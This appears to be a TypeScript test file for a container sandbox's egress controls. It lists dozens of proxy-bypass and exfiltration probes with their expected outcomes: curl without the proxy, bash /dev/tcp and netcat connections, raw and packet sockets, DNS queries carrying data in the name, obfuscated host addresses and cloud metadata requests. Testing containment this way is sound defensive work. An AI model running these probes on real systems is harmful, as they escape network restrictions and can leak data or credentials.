import type { Technique } from './technique.ts'

// Past the proxy: every kind of packet, to everything that has an address.

const CURL = 'curl -s --max-time 3'
const OUT = { advisory: 'out', open: 'out' } as const
const OWN_LOOPBACK = {
  advisory: { kept: 'loopback is that of the container, whatever its network' },
  open: 'out',
} as const

/** A request straight to a port of this machine. */
function straight(what: string, url: string, expected: Pick<Technique, 'advisory' | 'open'>) {
  const script = `${CURL} -g --noproxy '*' '${url}'`.replaceAll(/\$\w+/g, `'"$&"'`)
  return { name: `straight to ${what}`, by: 'sh', script, ...expected } as const
}

/** An address as one number, in an arithmetic that sh knows. */
const AS_NUMBER =
  'IFS=.; set -- $BRIDGE; unset IFS; n=$(($1 * 16777216 + $2 * 65536 + $3 * 256 + $4))'

export const DIRECT: readonly Technique[] = [
  {
    name: 'no proxy variables',
    by: 'sh',
    script: `env -i PATH="$PATH" ${CURL} http://$OUTSIDE/`,
    ...OUT,
  },
  { name: '--noproxy', by: 'sh', script: `${CURL} --noproxy '*' http://$OUTSIDE/`, ...OUT },
  {
    name: 'NO_PROXY=*',
    by: 'sh',
    script: `NO_PROXY='*' no_proxy='*' ${CURL} http://$OUTSIDE/`,
    ...OUT,
  },
  {
    name: 'TLS past the proxy',
    by: 'sh',
    script: `${CURL} -k --noproxy '*' --connect-to ::$OUTSIDE: https://denied.test/`,
    ...OUT,
  },
  {
    name: 'TCP by bash',
    by: 'sh',
    script: `bash -c 'exec 3<>/dev/tcp/$OUTSIDE/7000; echo hello >&3; timeout 1 cat <&3'`,
    ...OUT,
  },
  { name: 'TCP by netcat, port 22', by: 'sh', script: 'nc -w 1 $OUTSIDE 22 < /dev/null', ...OUT },
  {
    name: 'TCP by Node.js, port 8080',
    by: 'node',
    script: `talk({ host: E.OUTSIDE, port: 8080 }, 'hello')`,
    ...OUT,
  },
  {
    name: 'git past the proxy',
    by: 'sh',
    // That what it got is no repository is what git says of an answer.
    script: `git -c http.proxy= -c http.noProxy='*' ls-remote http://$OUTSIDE/leak.git 2>&1 | grep -q 'not valid' && echo OUT`,
    ...OUT,
  },
  {
    name: 'MPTCP',
    by: 'python3',
    script: `
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.settimeout(1.5)
s.connect((os.environ['OUTSIDE'], 7000))
s.send(b'hello')
print(s.recv(200).decode())`,
    ...OUT,
  },
  { name: 'UDP', by: 'node', script: `datagram(7000, E.OUTSIDE, 'hello')`, ...OUT },
  {
    name: 'UDP-Lite',
    by: 'python3',
    // No program listens: the refusal is an answer of the far side's kernel.
    script: `
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.settimeout(1.5)
s.connect((os.environ['OUTSIDE'], 7000))
s.send(b'hello')
try: s.recv(1)
except ConnectionRefusedError: print('OUT an answer came')`,
    ...OUT,
  },
  ...[
    ['SCTP', 'SOCK_STREAM', 132],
    ['DCCP', 'SOCK_DCCP', 33],
  ].map(([name, type, protocol]): Technique => ({
    name: String(name),
    by: 'python3',
    script: `
import os, socket
SOCK_STREAM, SOCK_DCCP = 1, 6
s = socket.socket(socket.AF_INET, ${type}, ${protocol})
s.settimeout(1.5)
try: s.connect((os.environ['OUTSIDE'], 7000))
except ConnectionRefusedError: print('OUT an answer came')`,
    advisory: { left: 'few kernels speak it' },
    open: { left: 'few kernels speak it' },
  })),
  {
    name: 'ICMP by a ping socket',
    by: 'python3',
    script: `
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(1.5)
s.connect((os.environ['OUTSIDE'], 0))
s.send(struct.pack('!BBHHH', 8, 0, 0, 1, 1) + b'data')
print('OUT', s.recv(200))`,
    ...OUT,
  },
  {
    name: 'ICMP by a raw socket',
    by: 'python3',
    script: `
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(1.5)
body = struct.pack('!BBHHH', 8, 0, 0xf7fd, 1, 1)
s.sendto(body, (os.environ['OUTSIDE'], 0))
print('OUT', s.recv(200))`,
    advisory: { kept: 'the capability for raw sockets is dropped in every run' },
    open: 'out',
  },
  {
    name: 'frames by a packet socket',
    by: 'python3',
    script: `
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
for index, name in socket.if_nameindex():
  if name != 'lo':
    s.bind((name, 0))
    print('OUT', name)`,
    advisory: { kept: 'the capability for packet sockets is dropped in every run' },
    open: 'out',
  },
  {
    name: 'TCP over IPv6',
    by: 'node',
    script: `talk({ host: E.OUTSIDE6, port: 7000 }, 'hello')`,
    advisory: { kept: "the engine's default bridge has no IPv6" },
    open: 'out',
  },
  {
    name: 'UDP over IPv6',
    by: 'node',
    script: `datagram(7000, E.OUTSIDE6, 'hello', 'udp6')`,
    advisory: { kept: "the engine's default bridge has no IPv6" },
    open: 'out',
  },
  {
    name: 'IPv6 to all nodes of a link',
    by: 'python3',
    script: `
import socket
for index, name in socket.if_nameindex():
  if name == 'lo': continue
  s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
  try:
    s.sendto(b'hello', ('ff02::1', 7000, 0, index))
    print('OUT', name)
  except OSError as error: print(error)`,
    advisory: { kept: "the engine's default bridge has no IPv6" },
    open: 'out',
  },
  {
    name: 'DNS over UDP, the name carries data',
    by: 'node',
    script: `datagram(53, E.NAMESERVER, question('stolen.denied.test'))`,
    ...OUT,
  },
  {
    name: 'DNS over TCP, the name carries data',
    by: 'node',
    script: `
const message = question('stolen.denied.test')
talk({ host: E.NAMESERVER, port: 53 }, Buffer.concat([Buffer.from([0, message.length]), message]))`,
    ...OUT,
  },
  {
    name: "DNS of the engine's own resolver, by UDP",
    by: 'node',
    script: `datagram(53, '127.0.0.11', question('stolen.denied.test'))`,
    advisory: { kept: 'the engine has no resolver on its default bridge' },
    open: { kept: 'the engine has no resolver on its default bridge' },
  },
  {
    name: "DNS of the engine's own resolver, by TCP",
    by: 'node',
    script: `talk({ host: '127.0.0.11', port: 53 }, Buffer.from([0, 1, 0]))`,
    advisory: { kept: 'the engine has no resolver on its default bridge' },
    open: { kept: 'the engine has no resolver on its default bridge' },
  },
  {
    name: "DNS of the system's resolver",
    by: 'sh',
    script: 'getent ahosts stolen.denied.test && echo OUT',
    advisory: { left: "it would ask this machine's nameserver, which is no host of the test" },
    open: { left: "it would ask this machine's nameserver, which is no host of the test" },
  },
  {
    name: 'UDP to the gateway of the default bridge',
    by: 'node',
    script: `datagram(Number(E.UDP_PORT), E.BRIDGE, 'hello')`,
    ...OUT,
  },
  {
    name: 'UDP to the address of the host',
    by: 'node',
    script: `datagram(Number(E.UDP_PORT), E.HOST, 'hello')`,
    ...OUT,
  },
  straight('the gateway of the default bridge', 'http://$BRIDGE:$HOST_PORT/', OUT),
  straight('the gateway of another bridge', 'http://$GATEWAY:$HOST_PORT/', OUT),
  straight('the address of the host', 'http://$HOST:$HOST_PORT/', OUT),
  straight('the host as IPv4 in IPv6', 'http://[::ffff:$BRIDGE]:$HOST_PORT/', OUT),
  {
    name: 'straight to the host as a decimal number',
    by: 'sh',
    script: `${AS_NUMBER}; ${CURL} --noproxy '*' http://$n:$HOST_PORT/`,
    ...OUT,
  },
  {
    name: 'straight to the host as a hexadecimal number',
    by: 'sh',
    script: `${AS_NUMBER}; ${CURL} --noproxy '*' http://$(printf 0x%x $n):$HOST_PORT/`,
    ...OUT,
  },
  {
    name: 'straight to the host as an octal number',
    by: 'sh',
    script: `${AS_NUMBER}; ${CURL} --noproxy '*' http://$(printf 0%o $n):$HOST_PORT/`,
    ...OUT,
  },
  straight('host.docker.internal', 'http://host.docker.internal:$HOST_PORT/', {
    advisory: { left: "it would ask this machine's nameserver, which is no host of the test" },
    open: { left: "it would ask this machine's nameserver, which is no host of the test" },
  }),
  ...['127.0.0.1', '127.1', '0x7f000001', '0', 'localhost', '[::1]'].map((host) =>
    straight(`loopback as ${host}`, `http://${host}:$LOOPBACK_PORT/`, OWN_LOOPBACK),
  ),
  straight('the metadata service', 'http://$METADATA/latest/meta-data/', OUT),
  straight('the metadata service over IPv6', 'http://[$METADATA6]/latest/', {
    advisory: { kept: "the engine's default bridge has no IPv6" },
    open: 'out',
  }),
]
